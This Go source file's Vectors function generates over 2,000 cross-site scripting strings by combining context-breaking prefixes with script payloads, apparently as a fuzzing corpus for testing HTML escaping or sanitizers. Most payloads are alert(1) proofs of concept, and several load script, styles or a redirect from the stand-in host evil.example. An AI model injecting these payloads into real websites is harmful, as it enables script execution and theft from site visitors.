package sample

// Vectors returns more than 2,000 texts that make scripts run where they are
// not escaped: ways out of what is around them, with what runs then.
func Vectors() []string {
	breaks := []string{"", "\"", "'", "`", ">", "\">", "'>", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</q></a>", "\\\"", "\\u003c", "\r\n\r\n", "\x00", "\u2028", "<!--", "&quot;&gt;", "%22%3E", "{{", "${", "</noscript>"}
	runs := []string{"<script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT>", "<script src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", "<img/src=`x`onerror=alert(1)>",
		"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext><style><img src onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
		"<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
		"<form action=//evil.example><input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
		"<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<video><source onerror=alert(1)>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		" onmouseover=alert(1) x=", " style=background:url(//evil.example) ", "constructor.constructor('alert(1)')()}}"}
	ends := []string{"", "//", "<!--"}
	var out []string
	for _, b := range breaks {
		for _, r := range runs {
			for _, e := range ends {
				out = append(out, b+r+e)
			}
		}
	}
	return out
}
